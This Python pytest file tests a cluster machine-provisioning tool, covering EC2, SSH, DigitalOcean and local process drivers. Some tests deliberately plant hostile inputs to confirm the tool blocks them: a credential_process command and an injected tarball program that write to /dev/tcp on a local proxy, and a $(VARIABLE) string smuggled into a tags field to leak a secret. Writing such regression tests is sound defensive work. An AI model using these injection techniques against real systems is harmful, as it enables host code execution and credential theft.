"""Machines from objects on both engines: EC2 instances, an SSH host, processes of this host, and a Go driver."""

from __future__ import annotations

import base64
import gzip
import io
import json
import os
import re
import socket
import subprocess
import tarfile
import threading
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest
import yaml

from herder.api.capi import kinds as capi
from herder.api.machines.drivers.known import credential_variable
from herder.api.machines.kinds import kinds_of
from herder.api.machines.names import INFRA_REMOVE_LABEL
from herder.engine.client.client import Client
from herder.engine.meta.kinds import GroupVersionResource, Kind, Object
from herder.machine.host.client import HostClient
from tests.support.api import Api
from tests.support.canaries import canary
from tests.support.capi import none_left, wait_until
from tests.support.cloud.ec2 import IMAGE, REGION, ZONE, Ec2
from tests.support.embedded import HERDER
from tests.support.manager.machines import (
    ENGINES,
    NAME,
    Provider,
    all_created,
    behind_proxy,
    condition,
    create_cluster,
    create_credential,
    create_machines,
)
from tests.support.rbac import grant
from tests.support.sshd import Sshd

NAMESPACE = "pasture"
ARCHIVE = "herder-archive"
CONFIG_MAPS = GroupVersionResource("", "v1", "configmaps")
JOBS = GroupVersionResource("batch", "v1", "jobs")
AWS_KEY, AWS_SECRET = "AKIDEXAMPLE", canary("aws secret key")
DROPLET_TOKEN = canary("digitalocean token")


class RejectingProxy:
    """A proxy that records connection attempts and rejects them, where a cloud would respond."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._listener.getsockname()[1]}"
        threading.Thread(target=self._answer, daemon=True).start()

    def _answer(self) -> None:
        while True:
            try:
                connection, _ = self._listener.accept()
            except OSError:
                return
            with connection:
                self.requests.append(connection.recv(65536).decode(errors="replace").split("\r\n")[0])
                connection.sendall(b"HTTP/1.1 403 Forbidden\r\ncontent-length: 0\r\n\r\n")

    def close(self) -> None:
        self._listener.close()


@pytest.fixture(scope="module")
def proxy() -> Iterator[RejectingProxy]:
    proxy = RejectingProxy()
    yield proxy
    proxy.close()


@pytest.fixture(scope="module")
def ec2() -> Iterator[Ec2]:
    with Ec2() as ec2:
        yield ec2


@pytest.fixture(scope="module", params=list(ENGINES))
def provider(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, proxy: RejectingProxy
) -> Iterator[Provider]:
    with behind_proxy(request.param, tmp_path_factory.mktemp(request.param), proxy.url) as provider:
        yield provider


@pytest.fixture(scope="module")
async def client(provider: Provider) -> AsyncIterator[Client]:
    client = provider.engine.client()
    drivers = ("amazonec2", "generic", "digitalocean", "process")
    await create_cluster(client, NAMESPACE, *drivers)
    yield client
    await client.close()


def herder(provider: Provider, *arguments: str) -> subprocess.CompletedProcess[str]:
    variables = os.environ | {"KUBECONFIG": str(provider.engine.kubeconfig)}
    return subprocess.run([HERDER, *arguments], env=variables, capture_output=True, text=True, timeout=60, check=False)


async def remove_and_wait(client: Client, driver: str, name: str) -> None:
    await client.delete(capi.MACHINE_DEPLOYMENT.resource, name, namespace=NAMESPACE)
    await wait_until(client, kinds_of(driver).machine, NAMESPACE, none_left)
    await wait_until(
        client, capi.SECRET, NAMESPACE, lambda secrets: not any(_belongs_to_a_machine(one) for one in secrets)
    )


def _belongs_to_a_machine(secret: Object) -> bool:
    return secret["type"] == "rke.cattle.io/machine-state" or secret["metadata"]["name"].endswith("-driver-secret")


async def test_five_ec2_instances_are_created_and_deleted(provider: Provider, client: Client, ec2: Ec2) -> None:
    ec2.reset()
    await create_credential(client, NAMESPACE, "aws", "amazonec2", accessKey=AWS_KEY, secretKey=AWS_SECRET)
    fields = {
        "region": REGION,
        "ami": IMAGE,
        "endpoint": ec2.url,
        "tags": "team,shepherds",
        "userdata": "#cloud-config\npackages: [jq]\n",
        "common": {"cloudCredentialSecretName": "aws"},
    }
    name = await create_machines(client, NAMESPACE, "amazonec2", fields, count=5, failure_domain=ZONE)
    machines = await wait_until(client, kinds_of("amazonec2").machine, NAMESPACE, all_created(5))

    instances = ec2.instances()
    assert {_tag(instance, "Name") for instance in instances} == {one["metadata"]["name"] for one in machines}
    for instance in instances:
        assert _tag(instance, f"kubernetes.io/cluster/{NAME}") == "owned"
        assert _tag(instance, "team") == "shepherds"
        assert instance["Placement"]["AvailabilityZone"] == ZONE
        _check_user_data(ec2, instance["InstanceId"])
    assert len(ec2.key_pairs()) == 5
    assert ec2.groups() == ["rancher-nodes"]

    secrets = (await client.list_all(capi.SECRET.resource, namespace=NAMESPACE)).items
    assert sum(one["type"] == "rke.cattle.io/machine-state" for one in secrets) == 5
    assert not (await client.list_all(JOBS, namespace=NAMESPACE)).items, "completed Jobs are deleted"
    await remove_and_wait(client, "amazonec2", name)
    assert ec2.leftovers() == {}
    await _assert_no_secret_in_logs(client)


def _tag(instance: Object, key: str) -> str:
    return next((tag["Value"] for tag in instance.get("Tags", []) if tag["Key"] == key), "")


def _check_user_data(ec2: Ec2, instance: str) -> None:
    answer = ec2.client.describe_instance_attribute(InstanceId=instance, Attribute="userData")
    text = base64.b64decode(answer["UserData"]["Value"]).decode()
    assert text.startswith("#cloud-config")
    config = yaml.safe_load(text)
    assert config["packages"] == ["jq"], "the user's part is kept"
    script = next(file for file in config["write_files"] if file["path"] == "/usr/local/custom_script/install.sh")
    assert "bootstrap-success.complete" in gzip.decompress(base64.b64decode(script["content"])).decode()
    assert config["runcmd"][-1] == "sh /usr/local/custom_script/install.sh"


async def _assert_no_secret_in_logs(client: Client) -> None:
    logs = (await client.list_all(CONFIG_MAPS, namespace=ARCHIVE, labels="herder.io/archive=machine-log")).items
    assert logs
    for log in logs:
        assert "create.log" in log["data"]
        assert AWS_SECRET not in str(log)


async def test_an_existing_host_is_provisioned_over_ssh(provider: Provider, client: Client, tmp_path: Path) -> None:
    with Sshd(tmp_path / "host") as sshd:
        await create_credential(client, NAMESPACE, "barn-key", "generic", sshKey=sshd.key.read_text())
        fields = {
            "ipAddress": sshd.address,
            "sshPort": str(sshd.port),
            "common": {"cloudCredentialSecretName": "barn-key"},
        }
        name = await create_machines(client, NAMESPACE, "generic", fields, count=1)
        (machine,) = await wait_until(client, kinds_of("generic").machine, NAMESPACE, all_created(1))
        machine_name = machine["metadata"]["name"]
        output = herder(provider, "ssh", machine_name, "-n", NAMESPACE, "--", "hostname; cat /run/cluster-api/*")
        assert (output.returncode, output.stdout.split()) == (0, [machine_name, "success"])
        await remove_and_wait(client, "generic", name)


async def test_a_go_driver_connects_to_its_cloud(provider: Provider, client: Client, proxy: RejectingProxy) -> None:
    await create_credential(client, NAMESPACE, "droplets", "digitalocean", accessToken=DROPLET_TOKEN)
    fields = {"region": "nyc3", "common": {"cloudCredentialSecretName": "droplets"}}
    # The Machine is not replaced, because it belongs to no set.
    template = kinds_of("digitalocean").machine
    name = await _single_machine(client, "digitalocean", fields)
    (machine,) = await wait_until(
        client,
        template,
        NAMESPACE,
        lambda found: any(condition(one, "CreateJob").get("status") == "False" for one in found),
    )
    message = machine["status"]["failureMessage"]
    assert machine["status"]["failureReason"] == "CreateError"
    assert "api.digitalocean.com" in message
    assert DROPLET_TOKEN not in str(machine)
    assert "CONNECT api.digitalocean.com:443 HTTP/1.1" in proxy.requests
    log = herder(provider, "logs", "machine", name, "-n", NAMESPACE).stdout
    assert "Running pre-create checks..." in log
    await client.delete(capi.MACHINE.resource, name, namespace=NAMESPACE)
    await wait_until(client, template, NAMESPACE, none_left)


async def test_a_cloud_credential_sets_only_variables_of_known_fields(
    provider: Provider, client: Client, proxy: RejectingProxy
) -> None:
    """AWS_CONFIG_FILE would name a file of the author, whose `credential_process` the SDK runs on this host."""
    fields = {"accessKey": "a", "access_key": "", "secretKey": "s", "configFile": "/path/to/machine/files/userdata"}
    await create_credential(client, NAMESPACE, "hostile", "amazonec2", **fields)
    port = proxy.url.rpartition(":")[2]
    config = f'#!/bin/sh\n[default]\ncredential_process = bash -c "echo $$ ran here > /dev/tcp/127.0.0.1/{port}"\n'
    spec = {"region": REGION, "ami": IMAGE, "userdata": config, "common": {"cloudCredentialSecretName": "hostile"}}
    name = await _single_machine(client, "amazonec2", spec)
    kind = kinds_of("amazonec2").machine

    def has_failed(found: list[Object]) -> bool:
        return any(condition(one, "CreateJob").get("status") == "False" for one in found)

    (machine,) = await wait_until(client, kind, NAMESPACE, has_failed)
    assert not [line for line in proxy.requests if "ran here" in line]
    message = condition(machine, "CreateJob")["message"]
    assert 'field "access_key" is unknown to driver amazonec2' in message
    await client.delete(capi.MACHINE.resource, name, namespace=NAMESPACE)
    await wait_until(client, kind, NAMESPACE, none_left)


async def test_fields_of_a_machine_do_not_reveal_its_credential(provider: Provider, client: Client, ec2: Ec2) -> None:
    """Kubernetes replaces $(NAME) in the arguments of a container with its environment variables."""
    ec2.reset()
    await create_credential(client, NAMESPACE, "of-others", "amazonec2", accessKey=AWS_KEY, secretKey=AWS_SECRET)
    fields = {"region": REGION, "ami": IMAGE, "endpoint": ec2.url, "common": {"cloudCredentialSecretName": "of-others"}}
    kind, name, variable = kinds_of("amazonec2").machine, "curious", credential_variable("amazonec2", "secretKey")
    infra = {"apiVersion": kind.api_version, "kind": kind.kind, "metadata": {"name": name}, "spec": fields}
    await client.create(kind.resource, infra, namespace=NAMESPACE)
    admin = Api(provider.engine.connection).in_namespace(NAMESPACE)
    try:
        rules = [{"apiGroups": [kind.group], "resources": [kind.plural], "verbs": ["patch"]}]
        await grant(admin, "curious", "mallory", rules)
        mallory = admin.as_user("mallory")
        assert (await mallory.get(mallory.at("secrets", "of-others"))).status == 403
        where = mallory.at(f"{kind.api_version}/{kind.plural}", name)
        (await mallory.patch(where, {"spec": {"tags": f"note,$({variable})"}})).expect(200)
    finally:
        await admin.close()
    await _machine_of(client, kind, name)
    await wait_until(client, kind, NAMESPACE, all_created(1))
    assert [_tag(instance, "note") for instance in ec2.instances()] == [f"$({variable})"]
    await client.delete(capi.MACHINE.resource, name, namespace=NAMESPACE)
    await wait_until(client, kind, NAMESPACE, none_left)


async def test_the_record_of_a_machine_cannot_choose_the_program_of_its_job(
    provider: Provider, client: Client, proxy: RejectingProxy
) -> None:
    """An editor of Secrets could otherwise make the signed Job unpack a program and run it on this host."""
    await create_credential(client, NAMESPACE, "droplets-of-others", "digitalocean", accessToken=DROPLET_TOKEN)
    fields = {"region": "nyc3", "common": {"cloudCredentialSecretName": "droplets-of-others"}}
    name = await _single_machine(client, "digitalocean", fields, name="edited")
    kind = kinds_of("digitalocean").machine
    await wait_until(
        client, kind, NAMESPACE, lambda found: any("failureReason" in one.get("status", {}) for one in found)
    )
    port = proxy.url.rpartition(":")[2]
    program = f"#!/bin/bash\necho edited $$ ran here > /dev/tcp/127.0.0.1/{port}\n"
    edited = {"data": {"extractedConfig": base64.b64encode(_record_with_program(name, program)).decode()}}
    await client.patch(capi.SECRET.resource, f"{name}-machine-state", edited, namespace=NAMESPACE)
    await client.delete(capi.MACHINE.resource, name, namespace=NAMESPACE)

    def has_ended(pods: list[Object]) -> bool:
        ours = [pod for pod in pods if INFRA_REMOVE_LABEL in (pod["metadata"].get("labels") or {})]
        return any(pod["status"].get("phase") in ("Failed", "Succeeded") for pod in ours)

    pods = await wait_until(client, capi.POD, NAMESPACE, has_ended)
    assert not [line for line in proxy.requests if line.startswith("edited")]
    assert 'of driver "/tmp/program", which is not that of this Job' in str(pods)
    nothing = {"data": {"extractedConfig": None}}  # then nothing has to be removed, and no Job is awaited
    await client.patch(capi.SECRET.resource, f"{name}-machine-state", nothing, namespace=NAMESPACE)
    await client.delete(JOBS, f"{name}-machine-provision", namespace=NAMESPACE)
    await wait_until(client, kind, NAMESPACE, none_left)


def _record_with_program(name: str, program: str) -> bytes:
    directory = f"/home/machine/.docker/machine/machines/{name}"
    config = {"ConfigVersion": 3, "Driver": {"MachineName": name}, "DriverName": "/tmp/program", "Name": name}
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        entry = tarfile.TarInfo(directory)
        entry.type, entry.mode = tarfile.DIRTYPE, 0o700
        tar.addfile(entry)
        for path, text in ((f"{directory}/config.json", json.dumps(config)), ("/tmp/program", program)):
            entry = tarfile.TarInfo(path)
            entry.size, entry.mode = len(text.encode()), 0o755
            tar.addfile(entry, io.BytesIO(text.encode()))
    return buffer.getvalue()


async def _single_machine(client: Client, driver: str, fields: Object, *, name: str = "") -> str:
    name = name or f"{driver}-alone"
    kind = kinds_of(driver).machine
    infra = {"apiVersion": kind.api_version, "kind": kind.kind, "metadata": {"name": name}, "spec": fields}
    infra["metadata"]["labels"] = {"cluster.x-k8s.io/cluster-name": NAME}
    await client.create(kind.resource, infra, namespace=NAMESPACE)
    await _machine_of(client, kind, name)
    return name


async def _machine_of(client: Client, kind: Kind, name: str) -> None:
    """A Machine with bootstrap data for the infrastructure machine of this name."""
    secret = {
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": {"name": f"{name}-data"},
        "data": {"value": base64.b64encode(b"#!/bin/sh\ntrue\n").decode()},
    }
    machine = {
        "apiVersion": capi.MACHINE.api_version,
        "kind": capi.MACHINE.kind,
        "metadata": {"name": name, "labels": {"cluster.x-k8s.io/cluster-name": NAME}},
        "spec": {
            "clusterName": NAME,
            "version": "v1.35.0",
            "bootstrap": {"dataSecretName": f"{name}-data"},
            "infrastructureRef": {"apiGroup": kind.group, "kind": kind.kind, "name": name},
        },
    }
    await client.create(capi.SECRET.resource, secret, namespace=NAMESPACE)
    await client.create(capi.MACHINE.resource, machine, namespace=NAMESPACE)


async def test_process_machines_accept_ssh_and_scp_and_are_deleted(
    provider: Provider, client: Client, tmp_path: Path
) -> None:
    name = await create_machines(client, NAMESPACE, "process", {}, count=5)
    machines = await wait_until(client, kinds_of("process").machine, NAMESPACE, all_created(5))
    machine_name = machines[0]["metadata"]["name"]
    output = herder(provider, "ssh", machine_name, "-n", NAMESPACE, "--", "hostname; cat /run/cluster-api/*; exit 7")
    assert (output.returncode, output.stdout.split()) == (7, [machine_name, "success"])

    (tmp_path / "there").write_text("fleece\n")
    assert herder(provider, "scp", str(tmp_path / "there"), f"{machine_name}:/root/", "-n", NAMESPACE).returncode == 0
    back = tmp_path / "back"
    assert herder(provider, "scp", f"{machine_name}:/root/there", str(back), "-n", NAMESPACE).returncode == 0
    assert back.read_text() == "fleece\n"

    host = HostClient.of(provider.host_state)
    assert len(host.machines()) == 5
    await remove_and_wait(client, "process", name)
    assert host.machines() == []
    log = herder(provider, "logs", "machine", machine_name, "-n", NAMESPACE).stdout
    assert re.search(rf"Creating machine[\s\S]*About to remove {machine_name}", log), "the log outlives the machine"
